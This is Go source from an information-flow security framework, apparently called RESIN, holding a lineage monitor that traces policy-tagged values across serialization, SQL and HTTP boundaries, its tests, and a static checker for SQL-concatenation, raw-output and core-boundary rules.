// callback runs outside the monitor lock and must not retain the Edge's
// ordering assumptions across calls.
func SetObserver(fn func(Edge)) {
	mon.mu.Lock()
	defer mon.mu.Unlock()
	mon.observer = fn
}

// Stats summarizes monitor occupancy.
type Stats struct {
	Sets    int // tracked policy contents
	Events  int // stored edges across all contents
	Dropped int // edges dropped at per-content cap
	Flushes int // wholesale state-table flushes at cap
}

// ReadStats returns current monitor occupancy.
func ReadStats() Stats {
	mon.mu.Lock()
	defer mon.mu.Unlock()
	s := Stats{Sets: len(mon.states), Flushes: mon.flushes}
	for _, st := range mon.states {
		s.Events += len(st.events)
		s.Dropped += st.dropped
	}
	return s
}

// Trace returns the ordered edge list for every policy content carried
// by v's spans, including edges of the contents they were derived from
// (transitively). Edges are sorted by Seq — source first.
func Trace(v core.String) []Edge {
	var sets []*core.PolicySet
	_ = v.EachTaintedSpan(func(_, _ int, ps *core.PolicySet) error {
		for _, have := range sets {
			if have == ps {
				return nil
			}
		}
		sets = append(sets, ps)
		return nil
	})
	return traceSets(sets)
}

// TraceSet is Trace for a bare policy set (e.g. an Int's policies).
func TraceSet(ps *core.PolicySet) []Edge {
	if ps.Len() == 0 {
		return nil
	}
	return traceSets([]*core.PolicySet{ps})
}

func traceSets(sets []*core.PolicySet) []Edge {
	if len(sets) == 0 {
		return nil
	}
	mon.mu.Lock()
	defer mon.mu.Unlock()
	queue := make([]string, 0, len(sets))
	for _, ps := range sets {
		if ps.Len() > 0 {
			queue = append(queue, labelLocked(ps))
		}
	}
	visited := make(map[string]bool, len(queue))
	var out []Edge
	for len(queue) > 0 {
		lbl := queue[0]
		queue = queue[1:]
		if visited[lbl] {
			continue
		}
		visited[lbl] = true
		st := mon.states[lbl]
		if st == nil {
			continue
		}
		out = append(out, st.events...)
		queue = append(queue, st.parents...)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Seq < out[j].Seq })
	return out
}

// RenderText renders edges one per line:
//
//	#3 sql-load    sql:users.password -> sql:users.password {docs.PasswordPolicy}
//
// The format is pinned by the docs/LINEAGE.md worked example's test.
func RenderText(edges []Edge) string {
	var b strings.Builder
	for _, e := range edges {
		from := e.From
		if from == "" {
			from = "(source)"
		}
		fmt.Fprintf(&b, "#%d %-11s %s -> %s %s\n", e.Seq, e.Op, from, e.To, e.Set)
	}
	return b.String()
}

// record is the hook core calls for every boundary crossing (gate
// already checked, set non-empty).
func record(set *core.PolicySet, op, node string) {
	mon.mu.Lock()
	st := stateFor(set)
	from := st.last
	// Collapse immediate repeats: page renders cross the same boundary
	// with the same content many times in a row.
	if n := len(st.events); n > 0 {
		if prev := st.events[n-1]; prev.Op == op && prev.To == node && prev.From == from {
			mon.mu.Unlock()
			return
		}
	}
	mon.seq++
	e := Edge{Seq: mon.seq, Op: op, From: from, To: node, Set: set.String()}
	if len(st.events) < maxEventsPerState {
		st.events = append(st.events, e)
	} else {
		st.dropped++
	}
	st.last = node
	var obs func(Edge)
	if mon.observer != nil {
		pair := from + "\x1f" + node
		if mon.seenPair == nil {
			mon.seenPair = make(map[string]bool, 64)
		}
		if !mon.seenPair[pair] {
			mon.seenPair[pair] = true
			obs = mon.observer
		}
	}
	mon.mu.Unlock()
	if obs != nil {
		obs(e)
	}
}

// derive is the hook core calls when a new policy set is built from
// parents (Union, Add, MergePolicies), linking the child's content to
// its parents' so Trace can follow unions backwards.
func derive(child, a, b *core.PolicySet) {
	mon.mu.Lock()
	defer mon.mu.Unlock()
	st := stateFor(child)
	addParent(st, a)
	addParent(st, b)
}

func addParent(st *setState, p *core.PolicySet) {
	if p.Len() == 0 || len(st.parents) >= maxParents {
		return
	}
	lbl := labelLocked(p)
	if lbl == st.label {
		return
	}
	for _, have := range st.parents {
		if have == lbl {
			return
		}
	}
	st.parents = append(st.parents, lbl)
}

// stateFor returns the state for set's content, creating it (and its
// label) as needed. Caller holds mon.mu.
func stateFor(set *core.PolicySet) *setState {
	lbl := labelLocked(set)
	st := mon.states[lbl]
	if st == nil {
		if mon.states == nil {
			mon.states = make(map[string]*setState, 64)
		} else if len(mon.states) >= maxStates {
			mon.states = make(map[string]*setState, 64)
			mon.flushes++
		}
		st = &setState{label: lbl}
		mon.states[lbl] = st
	}
	return st
}

// labelLocked returns the content label for set, memoized per pointer.
// Caller holds mon.mu.
func labelLocked(set *core.PolicySet) string {
	if lbl, ok := mon.labels[set]; ok {
		return lbl
	}
	lbl := labelOf(set)
	if mon.labels == nil || len(mon.labels) >= maxLabelMemo {
		mon.labels = make(map[*core.PolicySet]string, 64)
	}
	mon.labels[set] = lbl
	return lbl
}

// labelOf computes the canonical content label of a policy set: the
// sorted serialized forms of its members. Registered policy classes use
// their persistent encoding (class name + JSON data fields — exactly
// what survives a SQL or wire round-trip, which is why decode-side
// fresh instances land on the same label); unregistered policies fall
// back to type name + formatted fields.
func labelOf(set *core.PolicySet) string {
	parts := make([]string, 0, set.Len())
	_ = set.Each(func(p core.Policy) error {
		if enc, err := core.EncodePolicy(p); err == nil {
			parts = append(parts, string(enc))
		} else {
			parts = append(parts, core.PolicyName(p)+fmt.Sprintf("%+v", p))
		}
		return nil
	})
	sort.Strings(parts)
	return strings.Join(parts, "\x1f")
}
