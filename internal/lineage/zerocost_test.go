package lineage_test

import (
	"testing"

	"resin/internal/core"
	"resin/internal/lineage"
)

// TestDisabledConcatZeroAlloc pins the zero-cost-when-disabled
// guarantee for the hottest string op: with the gate off, Concat of
// tainted strings allocates exactly the same before and after a full
// enable → record → disable cycle — the instrumentation costs one
// atomic load and nothing else.
func TestDisabledConcatZeroAlloc(t *testing.T) {
	lineage.Disable()
	lineage.Reset()

	a := core.NewStringPolicy("hello ", &testSecret{Owner: "h"})
	b := core.NewStringPolicy("world", &testSecret{Owner: "w"})
	concat := func() { _ = core.Concat(a, b) }

	before := testing.AllocsPerRun(200, concat)

	lineage.Enable()
	_ = core.Concat(a, b)
	lineage.Disable()

	after := testing.AllocsPerRun(200, concat)
	if before != after {
		t.Fatalf("Concat allocs with lineage off changed across an enable cycle: %v -> %v", before, after)
	}
	lineage.Reset()
}

// TestDisabledDecodeZeroAlloc: same guarantee for the DecodeSpans
// memo-hit path, the hot boundary of SQL row loads.
func TestDisabledDecodeZeroAlloc(t *testing.T) {
	lineage.Disable()
	lineage.Reset()

	s := core.NewStringPolicy("payload", &testSecret{Owner: "d"})
	ann, err := core.EncodeSpans(s)
	if err != nil {
		t.Fatal(err)
	}
	// Warm the memo so every measured run is the hit path.
	if _, err := core.DecodeSpans("payload", ann); err != nil {
		t.Fatal(err)
	}
	decode := func() { _, _ = core.DecodeSpans("payload", ann) }

	before := testing.AllocsPerRun(200, decode)

	lineage.Enable()
	_, _ = core.DecodeSpans("payload", ann)
	lineage.Disable()

	after := testing.AllocsPerRun(200, decode)
	if before != after {
		t.Fatalf("DecodeSpans allocs with lineage off changed across an enable cycle: %v -> %v", before, after)
	}
	lineage.Reset()
}
