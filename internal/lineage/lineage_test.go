package lineage_test

import (
	"errors"
	"strings"
	"sync"
	"testing"

	"resin/internal/core"
	"resin/internal/lineage"
)

// testSecret is the policy class the lineage tests tag values with. Its
// ExportCheck always passes, so tagged values can cross channels and the
// tests observe filter-pass edges; the deny tests use denyAlways.
type testSecret struct {
	Owner string `json:"owner"`
}

func (p *testSecret) ExportCheck(ctx *core.Context) error { return nil }

// denyAlways vetoes every export, producing filter-deny edges. It is
// deliberately not registered for serialization: the monitor's label
// fallback (PolicyName + fields) must cover unregistered classes too.
type denyAlways struct{}

func (denyAlways) ExportCheck(ctx *core.Context) error { return errors.New("denied by policy") }

func init() {
	core.RegisterPolicyClass("lineagetest.Secret", &testSecret{})
}

// withLineage turns recording on for one test and restores the global
// disabled state (and empty monitor) afterwards.
func withLineage(t *testing.T) {
	t.Helper()
	lineage.Reset()
	lineage.Enable()
	t.Cleanup(func() {
		lineage.Disable()
		lineage.Reset()
	})
}

// requireOps asserts that want appears as an ordered (Op, To)
// subsequence of edges.
func requireOps(t *testing.T, edges []lineage.Edge, want [][2]string) {
	t.Helper()
	i := 0
	for _, e := range edges {
		if i < len(want) && e.Op == want[i][0] && e.To == want[i][1] {
			i++
		}
	}
	if i != len(want) {
		t.Fatalf("trace missing step %d %v; got:\n%s", i, want[i], lineage.RenderText(edges))
	}
}

// TestTraceSurvivesSerializationBoundary is the core content-keying
// property: DecodeSpans instantiates fresh policy objects (new interned
// set pointers), yet the trace of the decoded value still begins at the
// pre-encode source, and the From chain threads encode → decode →
// concat in order.
func TestTraceSurvivesSerializationBoundary(t *testing.T) {
	withLineage(t)

	pw := core.NewStringPolicy("hunter2", &testSecret{Owner: "alice"})
	ann, err := core.EncodeSpans(pw)
	if err != nil {
		t.Fatal(err)
	}
	dec, err := core.DecodeSpans("hunter2", ann)
	if err != nil {
		t.Fatal(err)
	}
	if dec.Policies() == pw.Policies() {
		t.Fatal("test premise broken: decode returned the identical set pointer")
	}
	out := core.Concat(dec, core.NewString("!"))

	edges := lineage.Trace(out)
	requireOps(t, edges, [][2]string{
		{"serialize", "core.encode"},
		{"deserialize", "core.decode"},
		{"concat", "core.concat"},
	})
	if len(edges) != 3 {
		t.Fatalf("want exactly 3 edges, got:\n%s", lineage.RenderText(edges))
	}
	// The From chain threads node to node, starting at the source.
	if edges[0].From != "" || edges[1].From != "core.encode" || edges[2].From != "core.decode" {
		t.Fatalf("From chain broken:\n%s", lineage.RenderText(edges))
	}
	var last uint64
	for _, e := range edges {
		if e.Seq <= last {
			t.Fatalf("Seq not strictly increasing:\n%s", lineage.RenderText(edges))
		}
		last = e.Seq
	}
	if !strings.Contains(edges[0].Set, "lineagetest.Secret") {
		t.Fatalf("edge set %q does not name the policy class", edges[0].Set)
	}
}

// TestMemoHitStillRecords: a second decode of the same annotation is
// served from the decode memo, but it is still a boundary crossing and
// must appear in the trace.
func TestMemoHitStillRecords(t *testing.T) {
	withLineage(t)

	pw := core.NewStringPolicy("s3cret", &testSecret{Owner: "bob"})
	ann, err := core.EncodeSpans(pw)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := core.DecodeSpans("s3cret", ann); err != nil {
		t.Fatal(err)
	}
	dec2, err := core.DecodeSpans("s3cret", ann)
	if err != nil {
		t.Fatal(err)
	}
	deser := 0
	for _, e := range lineage.Trace(dec2) {
		if e.Op == "deserialize" {
			deser++
		}
	}
	if deser != 2 {
		t.Fatalf("want 2 deserialize edges (memo hit is a crossing too), got %d", deser)
	}
}

// TestUnionLinksParents: a value whose set is the union of two tagged
// values' sets traces back through both parents' histories.
func TestUnionLinksParents(t *testing.T) {
	withLineage(t)

	a := core.NewStringPolicy("left", &testSecret{Owner: "a"})
	b := core.NewStringPolicy("right", &testSecret{Owner: "b"})
	if _, err := core.EncodeSpans(a); err != nil {
		t.Fatal(err)
	}
	if _, err := core.EncodeSpans(b); err != nil {
		t.Fatal(err)
	}
	u := core.NewString("merged").WithPolicySet(a.Policies().Union(b.Policies()))
	if _, err := core.EncodeSpans(u); err != nil {
		t.Fatal(err)
	}

	edges := lineage.Trace(u)
	serialize := 0
	for _, e := range edges {
		if e.Op == "serialize" {
			serialize++
		}
	}
	// a's encode + b's encode (via parent links) + u's own encode.
	if serialize != 3 {
		t.Fatalf("want 3 serialize edges across the union closure, got:\n%s", lineage.RenderText(edges))
	}
}

// TestObserverFiresOncePerNovelPair: the Reiss-style always-on observer
// sees each (From, To) crossing pair exactly once, across all policy
// contents.
func TestObserverFiresOncePerNovelPair(t *testing.T) {
	withLineage(t)

	var mu sync.Mutex
	var novel []lineage.Edge
	lineage.SetObserver(func(e lineage.Edge) {
		mu.Lock()
		novel = append(novel, e)
		mu.Unlock()
	})
	t.Cleanup(func() { lineage.SetObserver(nil) })

	a := core.NewStringPolicy("x", &testSecret{Owner: "a"})
	b := core.NewStringPolicy("y", &testSecret{Owner: "b"})
	if _, err := core.EncodeSpans(a); err != nil {
		t.Fatal(err)
	}
	// Same ("" -> core.encode) pair under a different policy content:
	// not novel, must not fire again.
	if _, err := core.EncodeSpans(b); err != nil {
		t.Fatal(err)
	}

	mu.Lock()
	defer mu.Unlock()
	if len(novel) != 1 {
		t.Fatalf("observer fired %d times, want 1 (one novel source->core.encode pair)", len(novel))
	}
	if novel[0].To != "core.encode" || novel[0].From != "" {
		t.Fatalf("unexpected novel edge %+v", novel[0])
	}
}

// TestDisabledRecordsNothing: with the gate off, instrumented operations
// leave no trace and no monitor state.
func TestDisabledRecordsNothing(t *testing.T) {
	lineage.Reset()
	lineage.Disable()

	s := core.NewStringPolicy("quiet", &testSecret{Owner: "q"})
	ann, err := core.EncodeSpans(s)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := core.DecodeSpans("quiet", ann); err != nil {
		t.Fatal(err)
	}
	_ = core.Concat(s, s)

	if edges := lineage.Trace(s); len(edges) != 0 {
		t.Fatalf("disabled monitor recorded %d edges", len(edges))
	}
	if st := lineage.ReadStats(); st.Events != 0 || st.Sets != 0 {
		t.Fatalf("disabled monitor accumulated state: %+v", st)
	}
}

// TestResetClearsState: Reset drops all recorded history.
func TestResetClearsState(t *testing.T) {
	withLineage(t)

	s := core.NewStringPolicy("tmp", &testSecret{Owner: "t"})
	if _, err := core.EncodeSpans(s); err != nil {
		t.Fatal(err)
	}
	if st := lineage.ReadStats(); st.Events == 0 {
		t.Fatal("setup recorded nothing")
	}
	lineage.Reset()
	if edges := lineage.Trace(s); len(edges) != 0 {
		t.Fatalf("Reset left %d edges behind", len(edges))
	}
	if st := lineage.ReadStats(); st.Events != 0 || st.Sets != 0 {
		t.Fatalf("Reset left stats behind: %+v", st)
	}
}

// TestFilterVerdictEdges: channel filter crossings become edges — a
// denial as filter-deny, a successful export as filter-pass, both named
// after the filter type and channel kind.
func TestFilterVerdictEdges(t *testing.T) {
	withLineage(t)
	rt := core.NewRuntime()
	ch := core.NewChannel(rt, core.KindHTTP, core.ExportCheckFilter{})

	secret := core.NewString("secret").WithPolicy(denyAlways{})
	if err := ch.Write(secret); err == nil {
		t.Fatal("denyAlways let the write through")
	}
	requireOps(t, lineage.Trace(secret), [][2]string{
		{"filter-deny", "filter:ExportCheckFilter(http)"},
	})

	ok := core.NewString("public").WithPolicy(&testSecret{Owner: "p"})
	if err := ch.Write(ok); err != nil {
		t.Fatal(err)
	}
	requireOps(t, lineage.Trace(ok), [][2]string{
		{"filter-pass", "filter:ExportCheckFilter(http)"},
	})
}

// TestRenderTextFormat pins the /audit line format.
func TestRenderTextFormat(t *testing.T) {
	got := lineage.RenderText([]lineage.Edge{
		{Seq: 3, Op: "serialize", From: "", To: "core.encode", Set: "{x}"},
		{Seq: 9, Op: "sql-load", From: "core.encode", To: "sql:users.password", Set: "{x}"},
	})
	want := "#3 serialize   (source) -> core.encode {x}\n" +
		"#9 sql-load    core.encode -> sql:users.password {x}\n"
	if got != want {
		t.Fatalf("RenderText drifted:\ngot  %q\nwant %q", got, want)
	}
}

// TestStatsCount: ReadStats reflects recorded state.
func TestStatsCount(t *testing.T) {
	withLineage(t)
	s := core.NewStringPolicy("v", &testSecret{Owner: "s"})
	if _, err := core.EncodeSpans(s); err != nil {
		t.Fatal(err)
	}
	st := lineage.ReadStats()
	if st.Sets != 1 || st.Events != 1 || st.Dropped != 0 {
		t.Fatalf("stats %+v, want 1 set / 1 event / 0 dropped", st)
	}
}
