package lineage_test

import (
	"fmt"
	"os"
	"strings"
	"testing"

	"resin/internal/core"
	"resin/internal/lineage"
	"resin/internal/sqldb"
)

// docPasswordPolicy is the policy class of the worked example in
// docs/LINEAGE.md: the password may only flow to its own account.
type docPasswordPolicy struct {
	Email string `json:"email"`
}

func (p *docPasswordPolicy) ExportCheck(ctx *core.Context) error {
	if u, ok := ctx.GetString("user"); ok && u == p.Email {
		return nil
	}
	return fmt.Errorf("password of %s may only be disclosed to its owner", p.Email)
}

func init() {
	core.RegisterPolicyClass("docs.PasswordPolicy", &docPasswordPolicy{})
}

// docBlock extracts the text between the given begin/end HTML markers of
// docs/LINEAGE.md, with fence lines stripped.
func docBlock(t *testing.T, name string) []string {
	t.Helper()
	data, err := os.ReadFile("../../docs/LINEAGE.md")
	if err != nil {
		t.Fatalf("docs/LINEAGE.md must exist: %v", err)
	}
	text := string(data)
	start := strings.Index(text, "<!-- "+name+":begin -->")
	end := strings.Index(text, "<!-- "+name+":end -->")
	if start < 0 || end < 0 || end < start {
		t.Fatalf("docs/LINEAGE.md lost its %s:begin/end markers", name)
	}
	var lines []string
	for _, line := range strings.Split(text[start:end], "\n") {
		trimmed := strings.TrimSpace(line)
		if trimmed == "" || strings.HasPrefix(trimmed, "```") || strings.HasPrefix(trimmed, "<!--") {
			continue
		}
		lines = append(lines, line)
	}
	return lines
}

// TestLineageDocExample executes docs/LINEAGE.md §6's worked example
// verbatim: the SQL statements of the lineage-example block run exactly
// as written (the password bound as a tracked argument), the composed
// reminder is denied at an HTTP boundary for the wrong user, and the
// rendered trace must match the doc's lineage-trace block byte for
// byte. If the edge vocabulary, node naming, ordering, or render format
// drift, the doc fails with this test.
func TestLineageDocExample(t *testing.T) {
	stmts := docBlock(t, "lineage-example")
	if len(stmts) != 3 {
		t.Fatalf("lineage-example block must pin CREATE, INSERT, and SELECT; got %d statements", len(stmts))
	}
	wantTrace := ""
	for _, line := range docBlock(t, "lineage-trace") {
		wantTrace += line + "\n"
	}

	lineage.Reset()
	lineage.Enable()
	defer func() {
		lineage.Disable()
		lineage.Reset()
	}()

	rt := core.NewRuntime()
	db := sqldb.Open(rt)
	pw := core.NewStringPolicy("s3cretpw", &docPasswordPolicy{Email: "u@example.org"})

	if _, err := db.Exec(core.NewString(strings.TrimSpace(stmts[0]))); err != nil {
		t.Fatalf("create: %v", err)
	}
	if _, err := db.Exec(core.NewString(strings.TrimSpace(stmts[1])), "u@example.org", pw); err != nil {
		t.Fatalf("insert: %v", err)
	}
	res, err := db.Query(core.NewString(strings.TrimSpace(stmts[2])), "u@example.org")
	if err != nil {
		t.Fatalf("select: %v", err)
	}
	if res.Len() != 1 {
		t.Fatalf("select returned %d rows", res.Len())
	}
	loaded := res.Get(0, "password").Str

	msg := core.Format("Your password is: %s\n", loaded)

	ch := core.NewChannel(rt, core.KindHTTP, core.ExportCheckFilter{})
	ch.Context().Set("user", "attacker@evil.org")
	if err := ch.Write(msg); err == nil {
		t.Fatal("the password flowed to the attacker")
	}

	got := lineage.RenderText(lineage.Trace(msg))
	if got != wantTrace {
		t.Errorf("docs/LINEAGE.md trace drifted:\n--- doc pins ---\n%s--- recorded ---\n%s", wantTrace, got)
	}
}
