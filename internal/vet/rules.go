package vet

import (
	"fmt"
	"go/ast"
	"strconv"
	"strings"
)

// textSinkMethods are methods that accept dialect text to tokenize and
// parse; their first argument must be provably constant.
var textSinkMethods = map[string]bool{
	"Query":       true,
	"QueryRaw":    true,
	"Exec":        true,
	"MustExec":    true,
	"Prepare":     true,
	"PrepareRaw":  true,
	"MustPrepare": true,
}

// textSinkRecv are receiver types whose textSinkMethods parse dialect
// text.
var textSinkRecv = map[string]bool{
	"sqldb.DB":   true,
	"sqldb.Tx":   true,
	"sqldb.View": true,
	"wire.Conn":  true,
}

// preparedRecv are receiver types whose Query/Exec bind values into an
// already-parsed statement; calls on them always pass the sql-concat
// rule.
var preparedRecv = map[string]bool{
	"sqldb.Stmt": true,
	"wire.Stmt":  true,
}

// coreAllow is the public boundary API of internal/core: value
// constructors, policy/context/runtime surface, and error predicates.
// Channel minting, filter-chain replacement, and intern internals are
// deliberately absent — an app reaching for them is bypassing the
// boundary the other rules assume.
var coreAllow = map[string]bool{
	// tracked values
	"String": true, "NewString": true, "NewStringPolicy": true,
	"Format": true, "Concat": true, "Builder": true,
	// policies and contexts
	"Policy": true, "PolicySet": true, "Context": true, "NewContext": true,
	"RegisterPolicyClass": true, "RegisterFilterClass": true,
	// runtimes
	"Runtime": true, "NewRuntime": true, "NewUntrackedRuntime": true,
	// channel kinds (for filter declarations) and the channel type
	// itself — constructing one (NewChannel) is not allowed.
	"Channel": true, "KindHTTP": true, "KindFile": true, "KindEmail": true,
	// error predicates
	"IsAssertionError": true,
}

// importAllow is the set of resin/internal packages an application
// package may import: the boundary surface plus the libraries that sit
// on it.
var importAllow = map[string]bool{
	"core": true, "httpd": true, "sqldb": true, "sanitize": true,
	"script": true, "vfs": true, "whois": true, "mail": true,
}

const modulePrefix = "resin/"

// scanFile applies every rule to one parsed file.
func (p *pkg) scanFile(f *ast.File, rel string) []Finding {
	fileIdx := -1
	for i, r := range p.fileRel {
		if r == rel {
			fileIdx = i
			break
		}
	}
	var findings []Finding

	// Rule core-boundary, import half: the only module-internal imports
	// allowed are the boundary packages.
	imports := make(map[string]bool) // local name → is a package ident
	for _, imp := range f.Imports {
		path, _ := strconv.Unquote(imp.Path.Value)
		name := path[strings.LastIndex(path, "/")+1:]
		if imp.Name != nil {
			name = imp.Name.Name
		}
		imports[name] = true
		if strings.HasPrefix(path, modulePrefix) && !importAllow[strings.TrimPrefix(path, modulePrefix+"internal/")] {
			findings = append(findings, p.report(fileIdx, imp.Pos(), RuleCoreBoundary,
				fmt.Sprintf("import %q is outside the application boundary allowlist", path)))
		}
	}

	isPkgIdent := func(sc *scope, e ast.Expr) (string, bool) {
		id, ok := e.(*ast.Ident)
		if !ok || !imports[id.Name] || sc.vars[id.Name] != "" {
			return "", false
		}
		return id.Name, true
	}

	scan := func(sc *scope, n ast.Node) {
		switch x := n.(type) {
		case *ast.SelectorExpr:
			// Rule core-boundary, selector half.
			if name, ok := isPkgIdent(sc, x.X); ok && name == "core" && !coreAllow[x.Sel.Name] {
				findings = append(findings, p.report(fileIdx, x.Pos(), RuleCoreBoundary,
					fmt.Sprintf("core.%s is outside the public boundary API", x.Sel.Name)))
			}
		case *ast.CallExpr:
			sel, ok := x.Fun.(*ast.SelectorExpr)
			if !ok {
				return
			}
			method := sel.Sel.Name
			if _, pkgCall := isPkgIdent(sc, sel.X); pkgCall {
				return // package-level function, not a method sink
			}
			recv := sc.typeOf(sel.X)
			switch {
			case textSinkRecv[recv] && textSinkMethods[method]:
				if len(x.Args) > 0 && !sc.constExpr(x.Args[0], 0) {
					findings = append(findings, p.report(fileIdx, x.Pos(), RuleSQLConcat,
						fmt.Sprintf("%s.%s called with non-constant dialect text; bind through a prepared statement or pass a constant query", recv, method)))
				}
			case preparedRecv[recv]:
				// Prepared-statement execution: text was parsed once at
				// Prepare time; arguments bind structurally.
			case (recv == "httpd.Response" || recv == "core.Channel") && method == "WriteRaw":
				if len(x.Args) > 0 && !sc.displaySafe(x.Args[0], 0) {
					findings = append(findings, p.report(fileIdx, x.Pos(), RuleRawOutput,
						"WriteRaw argument is not provably display-safe; route it through Write so the channel filter chain can inspect it"))
				}
			case recv == "" && (textSinkMethods[method] || method == "WriteRaw"):
				findings = append(findings, p.report(fileIdx, x.Pos(), RuleUnresolved,
					fmt.Sprintf("cannot type the receiver of sink-shaped call .%s; unanalyzable code is a finding, not a pass", method)))
			}
		}
	}

	emptyScope := &scope{pkg: p, vars: map[string]string{}, assigns: map[string][]ast.Expr{}}
	for _, d := range f.Decls {
		if fn, ok := d.(*ast.FuncDecl); ok {
			sc := p.newScope(fn)
			ast.Inspect(fn, func(n ast.Node) bool { scan(sc, n); return true })
			continue
		}
		ast.Inspect(d, func(n ast.Node) bool { scan(emptyScope, n); return true })
	}
	return findings
}
