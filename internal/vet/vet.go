// Package vet is the static pre-flight boundary checker behind
// cmd/resin-vet: a dependency-free go/ast scanner that proves, at build
// time, that every application package keeps its data inside the RESIN
// boundaries the runtime enforces dynamically. The runtime catches a
// missing filter only when an attack reaches it; vet catches the
// boundary *bypass* — the code shape that would keep an attack from
// ever meeting a filter — before the code ships.
//
// Three rules (docs/VET.md is the normative spec):
//
//   - sql-concat: every SQL call site must bind through prepared
//     statements or pass provably-constant dialect text; dialect
//     strings assembled from non-constant parts (raw Go concatenation,
//     fmt.Sprintf, core.Concat over request parameters) are findings,
//     because raw assembly either strips taint before the SQL filter
//     can see it or relies on the runtime check alone.
//
//   - raw-output: every HTTP response write must flow through the
//     channel filter chain (Response.Write); Response.WriteRaw is
//     allowed only for provably display-safe values — constants,
//     formatted integers, and sanitize.HTMLEscape results — because
//     WriteRaw wraps its argument as untracked text, so the XSS
//     assertions have nothing to inspect.
//
//   - core-boundary: application packages reach internal/core only
//     through its public boundary API (values, policies, contexts);
//     minting channels, replacing filter chains, or importing
//     non-boundary internals would bypass the filters the other two
//     rules assume.
//
// Deliberate vulnerabilities — the admissions app's three Table 4
// evaluation bugs — stay in the tree as *suppressed* findings via a
//
//	//resin:vet-allow <rule> <reason>
//
// comment on (or immediately above) the offending line, and the
// committed certificate (docs/vet-certificate.json) records them, so
// they are documented exceptions rather than silent passes. CI re-runs
// the scan against the certificate and fails on any drift.
package vet

import (
	"fmt"
	"go/ast"
	"go/parser"
	"go/token"
	"os"
	"path/filepath"
	"sort"
	"strings"
)

// Rule names. Each finding carries exactly one.
const (
	// RuleSQLConcat flags SQL call sites whose dialect text is not
	// provably constant (and not a prepared-statement execution).
	RuleSQLConcat = "sql-concat"
	// RuleRawOutput flags Response.WriteRaw arguments that are not
	// provably display-safe.
	RuleRawOutput = "raw-output"
	// RuleCoreBoundary flags uses of internal/core (or imports of
	// module internals) outside the public boundary API.
	RuleCoreBoundary = "core-boundary"
	// RuleUnresolved flags a SQL- or output-shaped call whose receiver
	// the scanner cannot type: unanalyzable code is a finding, not a
	// silent pass.
	RuleUnresolved = "unresolved"
	// RuleUnusedAllow flags a //resin:vet-allow comment that matched no
	// finding — a stale suppression in the source itself. Not itself
	// suppressible.
	RuleUnusedAllow = "unused-allow"
)

// Rules lists every rule name, in report order.
var Rules = []string{RuleSQLConcat, RuleRawOutput, RuleCoreBoundary, RuleUnresolved, RuleUnusedAllow}

// Finding is one boundary violation at one source position.
type Finding struct {
	// ID is the stable identifier: "<rule>/<file>:<line>".
	ID string `json:"id"`
	// Rule is the violated rule name.
	Rule string `json:"rule"`
	// File is the repo-relative path (forward slashes).
	File string `json:"file"`
	// Line is the 1-based source line of the violating call or import.
	Line int `json:"line"`
	// Detail describes the violation.
	Detail string `json:"detail,omitempty"`
	// Suppressed reports whether a //resin:vet-allow comment covers
	// this finding.
	Suppressed bool `json:"-"`
	// Reason is the suppression's free-text justification.
	Reason string `json:"reason,omitempty"`
}

// AllowMarker is the suppression comment prefix:
//
//	//resin:vet-allow <rule> <reason...>
//
// placed at the end of the offending line or on the line immediately
// above it.
const AllowMarker = "resin:vet-allow"

// suppression is one parsed //resin:vet-allow comment.
type suppression struct {
	rule   string
	reason string
	line   int // line the comment starts on
	used   bool
}

// ScanApps scans every package directory under internal/apps of the
// repository rooted at root and returns the merged, sorted findings.
func ScanApps(root string) ([]Finding, error) {
	appsDir := filepath.Join(root, "internal", "apps")
	entries, err := os.ReadDir(appsDir)
	if err != nil {
		return nil, fmt.Errorf("vet: read %s: %w", appsDir, err)
	}
	var all []Finding
	for _, e := range entries {
		if !e.IsDir() {
			continue
		}
		fs, err := ScanDir(root, filepath.ToSlash(filepath.Join("internal", "apps", e.Name())))
		if err != nil {
			return nil, err
		}
		all = append(all, fs...)
	}
	sortFindings(all)
	return all, nil
}

// ScanDir scans one package directory (rel, repo-relative) under root.
// Test files (_test.go) are outside the certificate's scope: they run
// inside the trust boundary and never serve requests.
func ScanDir(root, rel string) ([]Finding, error) {
	dir := filepath.Join(root, filepath.FromSlash(rel))
	entries, err := os.ReadDir(dir)
	if err != nil {
		return nil, fmt.Errorf("vet: read %s: %w", dir, err)
	}
	p := &pkg{
		fset:    token.NewFileSet(),
		rel:     rel,
		structs: make(map[string]map[string]string),
		consts:  make(map[string]bool),
	}
	var names []string
	for _, e := range entries {
		n := e.Name()
		if e.IsDir() || !strings.HasSuffix(n, ".go") || strings.HasSuffix(n, "_test.go") {
			continue
		}
		names = append(names, n)
	}
	sort.Strings(names)
	for _, n := range names {
		f, err := parser.ParseFile(p.fset, filepath.Join(dir, n), nil, parser.ParseComments)
		if err != nil {
			return nil, fmt.Errorf("vet: parse %s: %w", n, err)
		}
		p.files = append(p.files, f)
		p.fileRel = append(p.fileRel, rel+"/"+n)
	}
	p.collectDecls()
	p.collectSuppressions()
	var findings []Finding
	for i, f := range p.files {
		findings = append(findings, p.scanFile(f, p.fileRel[i])...)
	}
	findings = append(findings, p.unusedSuppressions()...)
	sortFindings(findings)
	return findings, nil
}

func sortFindings(fs []Finding) {
	sort.Slice(fs, func(i, j int) bool {
		if fs[i].File != fs[j].File {
			return fs[i].File < fs[j].File
		}
		if fs[i].Line != fs[j].Line {
			return fs[i].Line < fs[j].Line
		}
		return fs[i].Rule < fs[j].Rule
	})
}

// pkg is the per-package scan state.
type pkg struct {
	fset    *token.FileSet
	files   []*ast.File
	fileRel []string
	rel     string

	// structs maps a package-local struct type name to its fields'
	// rendered types ("sqldb.DB", "sqldb.Stmt", "httpd.Server", ...).
	structs map[string]map[string]string
	// consts holds package-level identifiers declared in const blocks.
	consts map[string]bool

	// suppressions per file (parallel to files/fileRel).
	sups [][]*suppression
}

// collectDecls indexes package-level struct fields and constants.
func (p *pkg) collectDecls() {
	for _, f := range p.files {
		for _, d := range f.Decls {
			gd, ok := d.(*ast.GenDecl)
			if !ok {
				continue
			}
			switch gd.Tok {
			case token.TYPE:
				for _, spec := range gd.Specs {
					ts := spec.(*ast.TypeSpec)
					st, ok := ts.Type.(*ast.StructType)
					if !ok {
						continue
					}
					fields := make(map[string]string)
					for _, fl := range st.Fields.List {
						t := renderType(fl.Type)
						for _, n := range fl.Names {
							fields[n.Name] = t
						}
					}
					p.structs[ts.Name.Name] = fields
				}
			case token.CONST:
				for _, spec := range gd.Specs {
					vs := spec.(*ast.ValueSpec)
					for _, n := range vs.Names {
